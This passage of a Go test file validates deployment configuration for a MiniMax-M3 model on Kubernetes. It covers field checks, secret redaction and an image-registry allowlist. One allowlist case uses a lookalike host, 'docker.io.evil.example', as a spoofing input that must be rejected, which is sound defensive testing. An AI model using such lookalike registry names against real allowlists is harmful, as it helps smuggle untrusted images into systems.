		{"an exposure backend", with(valid("agg"), "exposure", `{"enabled": true, "gateway": {"name": "inference"}, "hostname": "m3.example.com", "scheme": "http", "backend": "service"}`), "minimax-m3:exposure.backend", `"service" is not one of frontend, inferencePool`},
		{"bad access mode", with(valid("agg"), "modelCache", `{"accessMode": "Shared"}`), "minimax-m3:modelCache.accessMode", `"Shared" is not one of ReadWriteMany, ReadWriteOnce, ReadOnlyMany, ReadWriteOncePod (Kubernetes' volume access modes`},
		{"relative mount path", with(valid("agg"), "modelCache", `{"mountPath": "cache"}`), "minimax-m3:modelCache.mountPath", "not a clean absolute path"},
		{"bad pull secret", with(valid("agg"), "imagePullSecrets", `["NGC Pull"]`), "minimax-m3:imagePullSecrets[0]", "not a valid Kubernetes name"},
		{"gke roce without interfaces", with(valid("disagg"), "prefillWorker", `{"network": {"gkeRoce": {"defaultInterface": "eth0", "networkResourceQuantity": "1"}}}`), "minimax-m3:prefillWorker.network.gkeRoce.rdmaInterfaces", "at least one"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse(tc.raw)
			require.Error(t, err)
			var ps Problems
			require.ErrorAs(t, err, &ps)
			var hit bool
			for _, p := range ps {
				if p.String() == tc.key+": "+p.Message && strings.Contains(p.Message, tc.text) {
					hit = true
				}
			}
			assert.True(t, hit, "want a problem at %s containing %q, got:\n%v", tc.key, tc.text, err)
		})
	}
}

func TestEveryProblemIsReportedAtOnce(t *testing.T) {
	_, err := Parse(with(valid("agg"),
		"worker", `{"replicas": 0, "tensorParallelSize": 3}`,
		"model", `{"revision": "main"}`,
		"modelCache", `{"storageClass": "your-storage-class-name"}`))
	require.Error(t, err)
	for _, key := range []string{"worker.replicas", "worker.tensorParallelSize", "model.revision", "modelCache.storageClass"} {
		assert.Contains(t, err.Error(), "minimax-m3:"+key)
	}
	assert.Contains(t, err.Error(), "nothing was changed")
}

func TestTokenIsNeverPrintedInErrors(t *testing.T) {
	r := with(valid("agg"), "worker", `{"replicas": 0}`)
	r.Values["hfToken"] = "hf_secretvalue"
	r.Secrets = map[string]bool{}
	_, err := Parse(r)
	require.Error(t, err)
	assert.NotContains(t, err.Error(), "hf_secretvalue")
}

// What `pulumi config set --path` stores (digit-only values as numbers, true/false as booleans,
// decimals as strings), what `--type` and a hand-edited file give, are all accepted.
func TestValuesAreAcceptedInEveryFormPulumiStoresThem(t *testing.T) {
	c, err := Parse(with(valid("agg"),
		"gpusPerNode", "4",
		"worker", `{"replicas": "2", "vllm": {"gpuMemoryUtilization": "0.85", "maxNumSeqs": 128, "enablePrefixCaching": "false", "kvCacheDtype": "fp8"},
			"network": {"rdmaResource": "rdma.example.com/device", "rdmaCount": 4}, "terminationGracePeriodSeconds": "30"}`,
		"model", `{"revision": "9014640831616bf8612a29ff7ad29914cd4ab4a8", "draft": {"revision": 1234567890123456789012345678901234567890}}`,
		"modelDownload", `{"waitForCompletion": true, "backoffLimit": "5"}`,
		"speculativeDecoding", `{"syntheticAcceptanceLength": 2.5, "numSpeculativeTokens": "3"}`,
	))
	require.NoError(t, err)
	assert.Equal(t, 2, c.Worker.Replicas)
	assert.Equal(t, 0.85, c.Worker.VLLM.GPUMemoryUtilization)
	assert.Equal(t, 128, c.Worker.VLLM.MaxNumSeqs)
	assert.False(t, c.Worker.VLLM.EnablePrefixCaching)
	assert.Equal(t, "4", c.Worker.Network.RDMACount, "a number is taken as written where a string belongs")
	assert.Equal(t, 30, c.Worker.TerminationGracePeriodSeconds)
	assert.Equal(t, "1234567890123456789012345678901234567890", c.Model.Draft.Revision, "a digit-only revision keeps every digit")
	assert.Equal(t, 5, c.ModelDownload.BackoffLimit)
	assert.Equal(t, 2.5, c.Speculative.SyntheticAcceptanceLength)
}

func TestANullMapEntryRemovesADefault(t *testing.T) {
	c, err := Parse(with(valid("agg"), "worker", `{"podAnnotations": {"nvidia.com/vllm-distributed-executor-backend": null, "team": "a"}}`))
	require.NoError(t, err)
	assert.Equal(t, map[string]string{"team": "a"}, c.Worker.PodAnnotations)
}

func TestDerivedNamesFollowWhatTheyAreDerivedFrom(t *testing.T) {
	c, err := Parse(with(valid("agg"), "model", `{"name": "acme/MiniMax-M3-FT", "revision": "901464083161bf8612a29ff7ad29914cd4ab4a85"}`))
	require.NoError(t, err)
	assert.Equal(t, "acme/MiniMax-M3-FT", c.ServedModelName())
	c, err = Parse(with(valid("agg"), "model", `{"servedModelName": "minimax"}`))
	require.NoError(t, err)
	assert.Equal(t, "minimax", c.ServedModelName())
}

func TestTheTokenIsNotPartOfConfig(t *testing.T) {
	r := valid("agg")
	c, err := Parse(r)
	require.NoError(t, err)
	assert.NotContains(t, fmt.Sprintf("%+v", c), "hf_test")
	assert.Equal(t, "hf_test", r.HFToken())
}

// What imageRegistries lets in: a registry's every repository, or a repository prefix's own;
// Docker Hub's short names are docker.io's.
func TestRegistryAllowed(t *testing.T) {
	c := &Config{ImageRegistries: []string{"registry.example.com:5000/team-a", "docker.io"}}
	for image, want := range map[string]bool{
		"registry.example.com:5000/team-a/vllm:1":     true,
		"registry.example.com:5000/team-a":            true,
		"registry.example.com:5000/team-ab/vllm:1":    false,
		"registry.example.com:5000/team-b/vllm:1":     false,
		"python:3.10-slim":                            true,
		"busybox@sha256:" + strings.Repeat("a", 64):   true,
		"nvcr.io/nvidia/ai-dynamo/vllm-runtime:1.6.0": false,
		"docker.io.evil.example/library/python:3.10":  false,
		"not a reference":                             false,
	} {
		assert.Equal(t, want, c.RegistryAllowed(image), image)
	}
}
